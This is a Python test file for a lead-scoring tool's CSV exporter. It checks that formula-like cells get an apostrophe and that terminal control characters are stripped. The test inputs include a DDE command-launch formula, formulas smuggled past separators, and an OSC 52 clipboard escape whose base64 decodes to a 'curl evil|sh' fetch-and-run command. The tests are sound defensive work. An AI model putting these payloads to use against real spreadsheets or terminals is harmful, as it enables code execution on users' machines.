"""CSV cells that a spreadsheet could run as a formula are neutralized (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from leadscore.errors import InvalidRequest
from leadscore.lead_csv import FORMULA_STARTS, neutralized, split_cursor, write


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert neutralized(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Dana", "VP = boss", "", "'quoted", "a@b.example", "1-2"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert neutralized(text) == text


def test_quotes_commas_and_newlines_stay_inside_their_cell() -> None:
    text = write([[1, 'Dana "the boss", CEO\nof Globex']], header=False)

    assert text == '1,"Dana ""the boss"", CEO\nof Globex"\r\n'


def test_a_csv_cursor_carries_the_rank_the_page_starts_at() -> None:
    assert split_cursor("51.eyJsZWFkX2lkIjoi") == ("eyJsZWFkX2lkIjoi", 51)
    assert split_cursor(None) == (None, 1)
    for wrong in ("eyJsZWFkX2lkIjoi", "0.abc", "x.abc", "5.a+b"):
        with pytest.raises(InvalidRequest):
            split_cursor(wrong)


@pytest.mark.parametrize(
    "name", ["x;=1+1", "Dana;=cmd|' /C calc'!A0", "a\t@SUM(1)", "b;+1;-1", 'c; "=1+1', "d\n=1+1", "e\r\n-2+3"]
)
def test_a_cell_cannot_smuggle_a_formula_past_a_semicolon_tab_or_line_break(name: str) -> None:
    """Excel in a locale whose list separator is ';' (most of Europe) splits a .csv on ';' and
    honours a double quote only at the start of a field: '1,x;=1+1' becomes the cells '1,x' and
    the formula '=1+1', and a line break inside '1,"a<LF>=1"' starts a row with '=1"'."""
    text = write([[1, neutralized(name), 72.5]], header=False)

    for delimiter in (";", "\t"):
        cells = [c for line in csv.reader(io.StringIO(text), delimiter=delimiter) for c in line]
        assert not [c for c in cells if c.lstrip(' "').startswith(FORMULA_STARTS)], (delimiter, cells)
    assert next(csv.reader(io.StringIO(text)))[1].replace("'", "") == name.replace(
        "'", ""
    )  # apostrophes added


def test_control_characters_from_webhooks_never_reach_the_file_or_a_terminal() -> None:
    """`leadscore leads export` writes to standard output by default: a name carrying an escape
    sequence (here OSC 52, which writes the terminal user's clipboard) must not reach it."""
    name = "Eve\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\x00\x7fX"

    text = write([[1, neutralized(name)]], header=False)

    assert not [c for c in text if (ord(c) < 32 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F]
    assert "Eve" in text and "X" in text
